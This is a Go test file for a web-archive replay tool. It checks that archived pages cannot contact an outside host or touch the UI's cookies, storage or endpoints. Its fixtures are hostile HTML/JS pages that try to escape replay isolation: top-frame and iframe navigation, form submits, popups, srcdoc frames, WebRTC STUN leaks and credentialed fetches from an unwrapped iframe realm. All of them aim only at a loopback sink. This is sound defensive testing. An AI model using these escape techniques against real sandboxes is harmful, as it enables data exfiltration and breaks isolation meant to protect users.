package main

import (
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// sink is an "outside" host on 127.0.0.3: every TCP connection, HTTP
// request and UDP packet that reaches it is counted. A replayed page must
// never reach it.
type sink struct {
	tcp     net.Listener
	udp     net.PacketConn
	conns   atomic.Int64
	packets atomic.Int64
	mu      sync.Mutex
	paths   []string
}

func newSink(t *testing.T) *sink {
	t.Helper()
	s := &sink{}
	var err error
	if s.tcp, err = net.Listen("tcp", "127.0.0.3:0"); err != nil {
		t.Fatalf("sink: %v", err)
	}
	if s.udp, err = net.ListenPacket("udp", "127.0.0.3:0"); err != nil {
		t.Fatalf("sink: %v", err)
	}
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			s.mu.Lock()
			s.paths = append(s.paths, r.Method+" "+r.URL.Path)
			s.mu.Unlock()
			w.WriteHeader(http.StatusNoContent) // a navigation to it leaves the page where it is
		}),
		ConnState: func(_ net.Conn, st http.ConnState) {
			if st == http.StateNew {
				s.conns.Add(1)
			}
		},
	}
	var wg sync.WaitGroup
	wg.Add(2)
	go func() { defer wg.Done(); _ = srv.Serve(s.tcp) }()
	go func() {
		defer wg.Done()
		buf := make([]byte, 2048)
		for {
			if _, _, err := s.udp.ReadFrom(buf); err != nil {
				if errors.Is(err, net.ErrClosed) {
					return
				}
				continue
			}
			s.packets.Add(1)
		}
	}()
	t.Cleanup(func() { srv.Close(); s.udp.Close(); wg.Wait() })
	return s
}

func (s *sink) url() string  { return "http://" + s.tcp.Addr().String() }
func (s *sink) stun() string { return "stun:" + s.udp.LocalAddr().String() }
func (s *sink) hits() int64  { return s.conns.Load() + s.packets.Load() }
func (s *sink) reset() {
	s.conns.Store(0)
	s.packets.Store(0)
	s.mu.Lock()
	s.paths = nil
	s.mu.Unlock()
}
func (s *sink) report() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return fmt.Sprintf("%d TCP connections (requests %v), %d UDP packets", s.conns.Load(), s.paths, s.packets.Load())
}

// hostilePages are archived pages that try to reach the sink: each tells
// the top window (by postMessage) that it has made its attempt.
func hostilePages(s *sink) map[string]string {
	head := `<!DOCTYPE html><html><head><title>%s</title><script>
const SINK = ` + "`" + s.url() + "`" + `;
const said = t => { try { top.postMessage({vellumTest: t}, "*"); } catch (e) {} };
</script></head><body>`
	page := func(name, body string) string { return fmt.Sprintf(head, name) + body + `</body></html>` }
	return map[string]string{
		"/self-nav": page("self-nav", `<p>moving</p><script>said("self-nav"); location.href = SINK + "/self-nav";</script>`),
		"/top-nav":  page("top-nav", `<p>moving top</p><script>said("top-nav"); top.location.href = SINK + "/top-nav";</script>`),
		"/outer":    page("outer", `<p>outer</p><iframe src="/inner"></iframe>`),
		"/inner":    page("inner", `<script>said("frame-nav"); location.href = SINK + "/frame-nav";</script>`),
		"/form": page("form", `<form id="f" method="post"><input name="q" value="x"></form><script>
const f = document.getElementById("f");
f.setAttributeNS(null, "action", SINK + "/form");
said("form"); f.submit();</script>`),
		// A popup needs a user's click: the whole page is the button.
		"/popup": page("popup", `<button id="b" style="position:fixed;inset:0;width:100%;height:100%">open</button><script>
document.getElementById("b").onclick = () => {
  said("clicked");
  const a = document.createElement("a");
  a.setAttributeNS(null, "href", SINK + "/popup-link");
  a.target = "_blank";
  document.body.appendChild(a);
  a.click();
  const fr = document.body.appendChild(document.createElement("iframe"));
  try { fr.contentWindow.open.call(window, SINK + "/popup-open"); } catch (e) {}
  said("popup");
};
said("popup-ready");</script>`),
		// A frame written in the archived HTML, with no runtime of its own.
		"/srcdoc": page("srcdoc", `<iframe srcdoc="&lt;script&gt;
top.postMessage({vellumTest: 'srcdoc'}, '*');
try { const pc = new RTCPeerConnection({iceServers: [{urls: '`+s.stun()+`'}]}); pc.createDataChannel('x');
  pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}
location.href = '`+s.url()+`/srcdoc';
&lt;/script&gt;"></iframe>`),
		"/rtc": page("rtc", `<script>
const ice = {iceServers: [{urls: "`+s.stun()+`"}]};
async function reach(PC) {
  const pc = new PC(ice);
  pc.createDataChannel("x");
  await pc.setLocalDescription(await pc.createOffer());
}
(async () => {
  try { await reach(window.RTCPeerConnection); } catch (e) {}
  const fr = document.body.appendChild(document.createElement("iframe"));
  try { await reach(fr.contentWindow.RTCPeerConnection); } catch (e) {}
  said("rtc");
})();</script>`),
	}
}

// serveHostile serves pages on loopback and captures them into a new
// archive; the site is gone before replay.
func serveHostile(t *testing.T, pages map[string]string) (archive string, urls map[string]string, ts string) {
	t.Helper()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, body)
	}))
	archive = filepath.Join(t.TempDir(), "archive")
	urls = map[string]string{}
	args := []string{"capture", "--archive", archive, "--delay", "0"}
	for p := range pages {
		urls[p] = site.URL + p
		args = append(args, site.URL+p)
	}
	r := vellum(t, nil, args...)
	site.Close()
	if r.code != 0 {
		t.Fatalf("capture: %s%s", r.stdout, r.stderr)
	}
	m := regexp.MustCompile(`/web/(\d{14})/`).FindStringSubmatch(r.stdout)
	if m == nil {
		t.Fatalf("no replay path in %q", r.stdout)
	}
	ts = m[1]
	return archive, urls, ts
}

// listenMessages records the vellumTest messages the top window receives,
// on every page the browser opens from now on.
func (b *browser) listenMessages(t *testing.T) {
	t.Helper()
	_, err := chromedp.Call(b.ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `window.__said = []; addEventListener("message", e => {
			if (e.data && e.data.vellumTest) window.__said.push(String(e.data.vellumTest)); });`,
	})
	if err != nil {
		t.Fatal(err)
	}
}

// waitSaid waits until the page has said msg (at most 15 s).
func (b *browser) waitSaid(t *testing.T, msg string) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		if eval[bool](t, b, `(window.__said || []).includes(`+jsString(msg)+`)`) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("the page never said %q", msg)
}

func jsString(s string) string { return "`" + strings.ReplaceAll(s, "`", "") + "`" }

// waitHit gives a hit some time to arrive (a hit ends the wait).
func waitHit(s *sink, d time.Duration) {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) && s.hits() == 0 {
		time.Sleep(50 * time.Millisecond)
	}
}

func TestReplayedPagesReachNothingOutsideTheArchive(t *testing.T) {
	s := newSink(t)
	archive, urls, ts := serveHostile(t, hostilePages(s))
	ui, content := startServe(t, archive)
	s.reset() // whatever capture did; from here on, only replay counts
	b := newBrowser(t)
	b.listenMessages(t)
	// attempt opens a page and waits until it has made its attempt, and a
	// moment more for a hit, before the next page cancels what is pending.
	attempt := func(url, said string) {
		t.Helper()
		// Not chromedp.Navigate, which waits for the load event: a page whose
		// navigation away is cancelled while it loads may never fire it.
		if _, err := chromedp.Call(b.ctx, page.Navigate, page.NavigateParams{URL: url}); err != nil {
			t.Fatalf("navigate %s: %v", url, err)
		}
		b.waitSaid(t, said)
		waitHit(s, time.Second)
		t.Logf("after %s: %s", said, s.report())
	}
	for _, p := range []struct{ path, said string }{
		{"/self-nav", "self-nav"}, {"/top-nav", "top-nav"}, {"/outer", "frame-nav"}, {"/form", "form"}, {"/rtc", "rtc"},
		{"/srcdoc", "srcdoc"},
	} {
		attempt(ui+"/web/"+ts+"/"+urls[p.path], p.said)
	}
	attempt(ui+"/web/"+ts+"/"+urls["/popup"], "popup-ready")
	if err := chromedp.Do(b.ctx, chromedp.MouseClickXY(400, 300)); err != nil {
		t.Fatal(err)
	}
	b.waitSaid(t, "popup")
	t.Logf("after popup: %s %v", s.report(), eval[[]string](t, b, `window.__said`))
	if content != "" {
		// The content origin opened on its own, as a top-level page.
		attempt(content+"/web/"+ts+"mp_/"+urls["/self-nav"], "self-nav")
	}
	waitHit(s, 2*time.Second)
	if s.hits() > 0 {
		t.Errorf("replayed pages reached the outside host: %s", s.report())
	}
}

// uiProbe is an archived page that tries to act on the UI: it sets a
// cookie and local storage and calls the UI with the user's credentials.
const uiProbe = `<!DOCTYPE html><html><head><title>probe</title></head><body><script>
const said = t => { try { top.postMessage({vellumTest: t}, "*"); } catch (e) {} };
const ao = location.ancestorOrigins;
const ui = ao && ao.length ? ao[ao.length - 1] : location.origin;
document.cookie = "archived=1; path=/";
try { localStorage.setItem("archived", "1"); } catch (e) {}
// A fetch of its own realm, which no replay script has wrapped.
const f = document.body.appendChild(document.createElement("iframe")).contentWindow.fetch;
Promise.all([
  f(ui + "/runs", {credentials: "include"}).then(r => "cors:" + r.status, () => "cors:failed"),
  f(ui + "/runs", {credentials: "include", mode: "no-cors"}).then(() => "no-cors:sent", () => "no-cors:failed"),
]).then(rs => said("probe " + rs.join(" ")));
</script></body></html>`

func TestArchivedCodeCannotActOnTheUI(t *testing.T) {
	archive, urls, ts := serveHostile(t, map[string]string{"/probe": uiProbe})
	ui, _ := startServe(t, archive)
	b := newBrowser(t)
	b.listenMessages(t)
	b.open(t, ui+"/web/"+ts+"/"+urls["/probe"])
	b.waitSaid(t, "probe cors:failed no-cors:failed")
	if got := eval[[]string](t, b, `window.__said`); len(got) == 0 || got[0] != "probe cors:failed no-cors:failed" {
		t.Errorf("the archived page called the UI: %v", got)
	}
	cookies, err := chromedp.Call(b.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{ui + "/"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cookies.Cookies {
		t.Errorf("the archived page set a cookie the UI receives: %s=%s (domain %s)", c.Name, c.Value, c.Domain)
	}
	b.open(t, ui+"/")
	if got := eval[string](t, b, `document.cookie + "|" + (localStorage.getItem("archived") || "")`); got != "|" {
		t.Errorf("the UI's cookies|storage after the archived page: %q", got)
	}
}

// TestNewWindowLinksOpenInTheFrame clicks an archived target=_blank link:
// no window opens in replay, so it opens in the UI's frame.
func TestNewWindowLinksOpenInTheFrame(t *testing.T) {
	said := `<script>top.postMessage({vellumTest: document.title}, "*");</script>`
	archive, urls, ts := serveHostile(t, map[string]string{
		"/links": `<!DOCTYPE html><html><head><title>links</title></head><body>` + said +
			`<a href="/dest" target="_blank" style="position:fixed;inset:0;display:block">elsewhere</a></body></html>`,
		"/dest": `<!DOCTYPE html><html><head><title>dest</title></head><body>` + said + `</body></html>`,
	})
	ui, _ := startServe(t, archive)
	b := newBrowser(t)
	b.listenMessages(t)
	b.open(t, ui+"/web/"+ts+"/"+urls["/links"])
	b.waitSaid(t, "links")
	if err := chromedp.Do(b.ctx, chromedp.MouseClickXY(400, 300)); err != nil {
		t.Fatal(err)
	}
	b.waitSaid(t, "dest")
	if loc := eval[string](t, b, `location.href`); !strings.HasSuffix(loc, "/"+urls["/dest"]) {
		t.Errorf("after the click the UI shows %s", loc)
	}
}
